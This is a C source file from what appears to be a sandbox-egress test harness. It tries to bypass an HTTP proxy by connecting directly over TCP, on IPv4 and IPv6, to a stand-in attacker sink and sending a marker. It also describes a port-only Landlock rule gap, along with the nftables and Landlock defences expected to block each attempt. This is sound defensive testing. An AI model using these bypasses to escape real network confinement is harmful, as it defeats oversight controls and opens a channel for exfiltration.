/* tcp.c - B1, TCP proxy bypass: reach the internet without the proxy. */
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

/* Connect to host:port directly and send the marker. */
static int direct_tcp(const struct attack_env *env, struct attack_log *log, int family,
		      const char *host, uint16_t port, const char *label)
{
	struct sockaddr_storage ss;
	socklen_t len = attack_sockaddr(host, port, &ss);
	int fd, r, err;
	ssize_t n;

	fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "%s, SOCK_STREAM, 0", family == AF_INET6 ? "AF_INET6" : "AF_INET");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = attack_connect_timeout(fd, (struct sockaddr *)&ss, len, 2000);
	err = errno;
	attack_step(log, "connect", r, err, "%s%s%s:%u", strchr(host, ':') ? "[" : "", host,
		    strchr(host, ':') ? "]" : "", port);
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	n = attack_send_marker(env, fd, label);
	err = errno;
	attack_step(log, "send", n, err, "marker");
	close(fd);
	return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int t01_direct_v4(const struct attack_env *env, struct attack_log *log)
{
	return direct_tcp(env, log, AF_INET, env->sink_v4, 443, "T01");
}

static int t02_direct_v6(const struct attack_env *env, struct attack_log *log)
{
	return direct_tcp(env, log, AF_INET6, env->sink_v6, 443, "T02");
}

static int t04_proxy_port_elsewhere(const struct attack_env *env, struct attack_log *log)
{
	return direct_tcp(env, log, AF_INET, env->sink_v4, env->proxy_port, "T04");
}

#define NS_NFT "nftables reject (tcp to anything but the proxy address and port)"

const struct attack attacks_tcp[] = {
	{
		.id = "T01",
		.family = FAM_TCP,
		.title = "Direct TCP to the internet over IPv4",
		.tries = "The baseline bypass: connect straight to the attacker's host on 443 and "
			 "send the marker, ignoring HTTP(S)_PROXY.",
		.syscalls = "socket(AF_INET, SOCK_STREAM, 0); connect(sink:443); send",
		.refs = "attack-catalog.md B1 T01; landlock net_test.c protocol.connect",
		.expect = {NS_NFT, "Landlock connect_tcp (ABI >= 4): EACCES",
			   "Landlock connect_tcp; notify pins destinations",
			   "Landlock connect_tcp; notify pins destinations"},
		.run = t01_direct_v4,
	},
	{
		.id = "T02",
		.family = FAM_TCP,
		.title = "Direct TCP to the internet over IPv6",
		.tries = "The same over IPv6: an ip-only firewall table would miss it.",
		.syscalls = "socket(AF_INET6, SOCK_STREAM, 0); connect([sink6]:443); send",
		.refs = "attack-catalog.md B1 T02; kilocode PR #11659",
		.expect = {"nftables inet table rejects v6 tcp (and no v6 route)",
			   "Landlock connect_tcp (AF_INET6 covered)", "Landlock connect_tcp",
			   "Landlock connect_tcp"},
		.run = t02_direct_v6,
	},
	{
		.id = "T04",
		.family = FAM_TCP,
		.title = "The proxy's port on a non-proxy address",
		.tries = "Landlock rules key on the port only: connect(attacker:3128) passes a rule "
			 "that allows 3128 for the proxy. The gap the PR admits.",
		.syscalls = "socket(AF_INET, SOCK_STREAM, 0); connect(sink:3128); send",
		.refs = "attack-catalog.md §0.1, B1 T04; nono PR #1631; cplt #114/#117; "
			"platform-mode-pr.txt 'Remaining gap'",
		.expect = {"nftables accept pins ip daddr 10.200.0.1", "none: Landlock is port-only",
			   "notify: destination pinned to the proxy address",
			   "notify: destination pinned to the proxy address"},
		.run = t04_proxy_port_elsewhere,
	},
	{0},
};
